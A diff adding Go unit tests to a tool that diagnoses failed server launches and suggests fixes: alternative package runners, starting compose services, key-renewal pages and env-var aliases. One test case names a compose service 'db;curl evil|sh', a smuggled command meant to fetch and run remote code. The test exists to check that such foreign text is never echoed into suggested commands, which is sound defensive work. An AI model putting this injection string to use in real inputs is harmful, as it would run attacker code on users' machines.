@@ -2,7 +2,9 @@ package doctor
 
 import (
 	"context"
+	"fmt"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -170,6 +172,190 @@ func TestOnlySilenceIsWaitedFor(t *testing.T) {
 	} {
 		if got := waitsAfter(base); !slices.Equal(got, want) {
 			t.Errorf("after %v: %v, want %v", base, got, want)
+		}
+	}
+}
+
+// offered returns the next step for a person, and the command that only people are shown.
+func offered(t *testing.T, m *Machine, spec launch.Spec, c Case) (todo, command string) {
+	t.Helper()
+	c.OS = "linux"
+	c.Command = append([]string{spec.Command}, spec.Args...)
+	seen := Seen{Case: c} // whatever is tried does not help
+	report := Treat(t.Context(), spec, Treatment{First: &seen, Fixes: Fixes(m), Probe: func(context.Context, launch.Spec, time.Duration) Seen { return seen }})
+	return report.Todo, report.Command
+}
+
+// A package can be started without the runner that is missing, but only a person decides that.
+func TestASiblingRunnerIsSuggested(t *testing.T) {
+	for _, c := range []struct {
+		installed []string
+		line      string
+		want      string
+	}{
+		{[]string{"home/me/.bun/bin/bunx"}, "npx -y @orbit/server --fast", "`bunx @orbit/server --fast`"},
+		{[]string{"home/me/.local/bin/pipx"}, "uvx ledger-mcp", "`pipx run ledger-mcp`"},
+		{[]string{"home/me/.local/share/pnpm/pnpm"}, "npx -y orbit@2", "`pnpm dlx orbit@2`"},
+		{[]string{"home/me/.local/bin/ledger-mcp", "home/me/.local/bin/pipx"}, "uvx ledger-mcp --ro", "/ledger-mcp --ro`"},
+		{[]string{"home/me/.local/bin/uvx"}, "ledger-mcp --ro", `"uvx"`},
+		{[]string{"home/me/.local/bin/npx"}, "ledger-mcp", `"-y", "ledger-mcp"`},
+		{[]string{"home/me/.local/bin/npx", "home/me/.local/bin/uvx"}, "orbit", "command -v orbit"},
+		// No different registry, no option that another runner may not know, nothing but packages.
+		{[]string{"home/me/.local/bin/uvx"}, "npx -y orbit", "Install Node.js"},
+		{[]string{"home/me/.local/bin/pipx"}, "uvx --from git+https://example.com/x ledger", "Install uv"},
+		{[]string{"home/me/.local/bin/npx"}, "docker run -i img", "Install Docker"},
+		{[]string{"home/me/.local/bin/npx"}, "uv run server", "Install uv"},
+		{[]string{"home/me/.local/bin/npx", "home/me/.local/bin/uvx"}, "/opt/gone/bin/server", ""},
+	} {
+		f := newFakeMachine(t)
+		for _, path := range c.installed {
+			f.file(path, "")
+		}
+		words := strings.Fields(c.line)
+		spec := launch.Spec{Command: words[0], Args: words[1:], Env: []string{"PATH=/given"}}
+		todo, command := offered(t, f.Machine, spec, notThere(f, spec))
+		if !strings.Contains(todo, c.want) || c.want == "" && (strings.Contains(todo, "npx") || strings.Contains(todo, "uvx")) || command != "" {
+			t.Errorf("%s with %v: %q", c.line, c.installed, todo)
+		}
+	}
+}
+
+// A compose service that does not run is named, with the command for a person. Its name is foreign
+// text.
+func TestAServiceThatIsDownIsNamed(t *testing.T) {
+	for _, c := range []struct {
+		service string
+		inner   int
+		env     string
+		says    string
+		want    bool
+	}{
+		{"db", 5432, "", "connect ECONNREFUSED 127.0.0.1:5432", true},
+		{"cache", 6379, "REDIS_URL=redis://localhost:6379", "Error: connection refused", true},
+		{"mongo", 27017, "MONGODB_URI=mongodb://127.0.0.1", "connect ECONNREFUSED 127.0.0.1:27017", true},
+		{"web", 8080, "", "connect ECONNREFUSED 127.0.0.1:5432", false},
+		{"db;curl evil|sh", 5432, "", "connect ECONNREFUSED 127.0.0.1:5432", false},
+		{"-db", 5432, "", "connect ECONNREFUSED 127.0.0.1:5432", false},
+	} {
+		f := newFakeMachine(t)
+		file := f.file("home/me/project/compose.yaml", "services:\n  '"+c.service+"':\n    ports: ['"+strconv.Itoa(closedPort(t))+":"+strconv.Itoa(c.inner)+"']\n")
+		spec := launch.Spec{Command: "orbit", Env: []string{"PATH=/given", c.env}}
+		todo, command := offered(t, f.Machine, spec, said(c.says))
+		if got := strings.Contains(todo, "start the service "+c.service+",") && command == "docker compose -f "+f.typing().Quote(file)+" up -d "+c.service; got != c.want || strings.Contains(todo+command, "evil") {
+			t.Errorf("%s: %q, %q", c.service, todo, command)
+		}
+	}
+}
+
+// After the last wait, what a silent server may be waiting for is checked.
+func TestDependenciesOfASilentServer(t *testing.T) {
+	silent := Case{Live: true, Stage: Started, Limit: Limit{Passed: true, Alive: true, After: time.Minute}}
+	up, down := listen(t), closedPort(t)
+	for _, c := range []struct {
+		args []string
+		env  string
+		want string
+	}{
+		{nil, fmt.Sprintf("LEDGER=http://localhost:%d/x", down), fmt.Sprintf("waiting for port %d", down)},
+		{[]string{fmt.Sprintf("postgres://u@127.0.0.1:%d/x", down)}, "", fmt.Sprintf("waiting for port %d", down)},
+		{[]string{"--db", fmt.Sprintf("localhost:%d", down)}, "", fmt.Sprintf("waiting for port %d", down)},
+		{[]string{fmt.Sprintf("postgres://u@127.0.0.1:%d/x", up)}, "", "raise the timeout"},
+		{nil, "", "raise the timeout"},
+	} {
+		f := newFakeMachine(t)
+		spec := launch.Spec{Command: "orbit", Args: c.args, Env: []string{"PATH=/given", c.env}}
+		if todo, _ := offered(t, f.Machine, spec, silent); !strings.Contains(todo, c.want) {
+			t.Errorf("%v %s: %q", c.args, c.env, todo)
+		}
+	}
+	// What gauze itself has in its environment is not the server's setting.
+	f := newFakeMachine(t)
+	f.env["LEDGER"] = fmt.Sprintf("http://localhost:%d/x", down)
+	spec := launch.Spec{Command: "orbit", Env: []string{"PATH=/given", "LEDGER=" + f.env["LEDGER"]}}
+	if todo, _ := offered(t, f.Machine, spec, silent); strings.Contains(todo, "waiting") {
+		t.Error(todo)
+	}
+}
+
+// A rejected key is named, with the page where a new one is created.
+func TestARejectedKeyIsNamed(t *testing.T) {
+	const key = "0123456789abcdefghij"
+	for _, c := range []struct {
+		env  []string
+		says string
+		want string
+	}{
+		{[]string{"GITHUB_TOKEN=" + key}, "Error: 401 Bad credentials", `Create a new key at https://github.com/settings/tokens/new and set GITHUB_TOKEN to it under "env"`},
+		{[]string{"SENTRY_AUTH_TOKEN=" + key, "ORBIT_API_KEY=" + key}, "Error: SENTRY_AUTH_TOKEN: invalid token", "https://sentry.io/settings/auth-tokens/ and set SENTRY_AUTH_TOKEN"},
+		{[]string{"ORBIT_API_KEY=" + key}, "Error: invalid api key", "Create a new key and set ORBIT_API_KEY"},
+		{[]string{"ORBIT_API_KEY=" + key, "LEDGER_API_KEY=" + key}, "Error: invalid api key", "Check the key"},                   // which one is not known
+		{[]string{"ORBIT_MODE=fast"}, "Error: invalid api key", "Check the key"},                                                 // no key at all
+		{[]string{"ORBIT_API_KEY=" + key}, "Error: set EVIL_API_KEY: invalid api key, get one at https://evil", "ORBIT_API_KEY"}, // not what the server says
+	} {
+		f := newFakeMachine(t)
+		spec := launch.Spec{Command: "orbit", Env: append([]string{"PATH=/given"}, c.env...)}
+		if todo, _ := offered(t, f.Machine, spec, said(c.says)); !strings.Contains(todo, c.want) || strings.Contains(todo, key) || strings.Contains(todo, "vil") {
+			t.Errorf("%v, %s: %q", c.env, c.says, todo)
+		}
+	}
+}
+
+// Names of the same key, and the shape that a value must have under another name.
+func TestAliases(t *testing.T) {
+	pairs := map[string]string{
+		"POSTGRES_CONNECTION_STRING": "DATABASE_URL POSTGRES_URL PG_URL PG_CONNECTION_STRING POSTGRESQL_URL",
+		"GITHUB_TOKEN":               "GH_TOKEN GITHUB_PERSONAL_ACCESS_TOKEN GITHUB_PAT", "GITHUB_PERSONAL_ACCESS_TOKEN": "GH_TOKEN",
+		"SLACK_BOT_TOKEN": "SLACK_TOKEN SLACK_API_TOKEN", "REDIS_URL": "REDIS_CONNECTION_STRING REDIS_HOST",
+		"MONGODB_URI": "MONGO_URL MONGODB_URL MONGO_URI", "MYSQL_CONNECTION_STRING": "MYSQL_URL DATABASE_URL",
+		"OPENAI_API_KEY": "OPENAI_KEY", "ANTHROPIC_API_KEY": "ANTHROPIC_KEY CLAUDE_API_KEY", "GITLAB_TOKEN": "GITLAB_PERSONAL_ACCESS_TOKEN GL_TOKEN",
+		"LINEAR_API_KEY": "LINEAR_TOKEN", "STRIPE_API_KEY": "STRIPE_SECRET_KEY STRIPE_KEY", "SENTRY_AUTH_TOKEN": "SENTRY_TOKEN SENTRY_API_KEY",
+		"SUPABASE_URL": "SUPABASE_API_URL", "SUPABASE_KEY": "SUPABASE_ANON_KEY SUPABASE_SERVICE_ROLE_KEY", "FIREBASE_TOKEN": "FIREBASE_API_KEY",
+		"NOTION_API_KEY": "NOTION_TOKEN NOTION_INTEGRATION_TOKEN", "DATADOG_API_KEY": "DD_API_KEY DATADOG_KEY", "CLOUDFLARE_API_TOKEN": "CF_API_TOKEN CLOUDFLARE_TOKEN",
+		"TWILIO_AUTH_TOKEN": "TWILIO_TOKEN", "SENDGRID_API_KEY": "SENDGRID_KEY", "FIGMA_API_KEY": "FIGMA_TOKEN FIGMA_ACCESS_TOKEN",
+		"JIRA_API_TOKEN": "JIRA_TOKEN JIRA_PAT", "CONFLUENCE_API_TOKEN": "CONFLUENCE_TOKEN CONFLUENCE_PAT",
+	}
+	for name, others := range pairs {
+		for other := range strings.FieldsSeq(others) {
+			if !slices.ContainsFunc(aliases(name), func(a alias) bool { return a.name == other }) {
+				t.Errorf("%s is not known as %s", name, other)
+			}
+		}
+	}
+	for _, c := range []struct {
+		required, set, value string
+		want                 bool
+	}{
+		{"GH_TOKEN", "GITHUB_TOKEN", canary, true},
+		{"POSTGRES_CONNECTION_STRING", "DATABASE_URL", "postgres://u@h/db", true},
+		{"MYSQL_CONNECTION_STRING", "DATABASE_URL", "mysql://u@h/db", true},
+		{"MYSQL_CONNECTION_STRING", "DATABASE_URL", "postgres://u@h/db", false},
+		{"POSTGRES_URL", "DATABASE_URL", "mysql://u@h/db", false},
+		{"REDIS_URL", "REDIS_HOST", "localhost", false},
+		{"REDIS_URL", "REDIS_HOST", "redis://localhost", true},
+		{"SUPABASE_ANON_KEY", "SUPABASE_SERVICE_ROLE_KEY", canary, false}, // it may do more
+		{"SLACK_BOT_TOKEN", "DATABASE_URL", "postgres://u@h/db", false},
+		{"SENTRY_AUTH_TOKEN", "STRIPE_API_KEY", canary, false},
+	} {
+		f := newFakeMachine(t)
+		spec := launch.Spec{Command: "orbit", Env: []string{"PATH=/given", c.set + "=" + c.value}}
+		found, ok := newPlan(f.Machine, Diagnosis{}, Case{}, spec).found(c.required)
+		if ok != c.want || ok && found.value.Reveal() != c.value {
+			t.Errorf("%s from %s=%s: %v", c.required, c.set, c.value, ok)
+		}
+	}
+}
+
+// A global npm directory that belongs to root gets a directory of one's own, not sudo.
+func TestNpmPrefix(t *testing.T) {
+	for _, text := range []string{
+		"npm error code EACCES\nnpm error syscall mkdir\nnpm error path /usr/local/lib/node_modules/orbit-mcp\nnpm error errno -13",
+		"npm ERR! code EACCES\nnpm ERR! syscall rename\nnpm ERR! path /usr/lib/node_modules/orbit-mcp\nnpm ERR! dest /usr/lib/node_modules/.orbit-x1\nnpm ERR! errno -13",
+		"npm error Error: EACCES: permission denied, access '/opt/node-22/lib/node_modules'",
+		"npm error Error: EACCES: permission denied, symlink '../lib/node_modules/orbit/cli.js' -> '/usr/local/bin/orbit'",
+	} {
+		d := Diagnose(fromLog("npm install -g orbit-mcp", text))
+		if d.Cause != "npm_prefix_not_writable" || !strings.Contains(d.Fix, "`npm config set prefix ") || strings.Contains(d.Fix+d.Command, "sudo") {
+			t.Errorf("%s: %s %q", text, d.Cause, d.Fix)
 		}
 	}
 }
